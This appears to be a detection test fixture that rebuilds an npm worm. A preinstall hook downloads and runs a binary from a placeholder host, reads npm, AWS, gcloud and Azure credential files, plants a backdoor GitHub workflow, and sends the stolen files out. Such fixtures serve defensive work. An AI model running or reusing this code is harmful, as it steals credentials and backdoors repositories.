# incident: Shai-Hulud's second coming (2025): preinstall fetches another runtime, looks for tokens and leaves a workflow as a door
# finding: downloaded-executed, credential-read, workflow-written
# needs: node npm
mkdir -p dep && echo '{"name": "dep", "version": "1.0.1", "scripts": {"preinstall": "node setup_bun.js"}}' > dep/package.json
cat > dep/setup_bun.js <<'JS'
const http = require('http'), fs = require('fs'), os = require('os'), path = require('path'), { spawnSync } = require('child_process');
const bun = path.join(os.homedir(), '.bun', 'bin');
http.get('http://' + process.env.DROP + '/program', (answer) => {
  fs.mkdirSync(bun, { recursive: true });
  const to = fs.createWriteStream(path.join(bun, 'bun'), { mode: 0o755 });
  answer.pipe(to).on('close', () => {
    spawnSync(path.join(bun, 'bun'), ['bun_environment.js']);
    const found = {};
    for (const name of ['.npmrc', '.aws/credentials', '.config/gcloud/application_default_credentials.json', '.azure/accessTokens.json'])
      try { found[name] = fs.readFileSync(path.join(os.homedir(), name), 'utf8'); } catch {}
    const root = process.env.INIT_CWD;
    fs.writeFileSync(path.join(root, '.github/workflows/discussion.yaml'), 'on: discussion\njobs: {p: {runs-on: self-hosted, steps: [{run: "echo ${{ github.event.discussion.body }}"}]}}\n');
    const send = http.request('http://' + process.env.DROP + '/repos', { method: 'POST' });
    send.end(Buffer.from(Buffer.from(JSON.stringify(found)).toString('base64')).toString('base64'));
  });
});
JS
echo '{"name": "app", "version": "1.0.0", "dependencies": {"dep": "file:./dep"}}' > package.json
npm install --offline --no-audit --no-fund --install-links
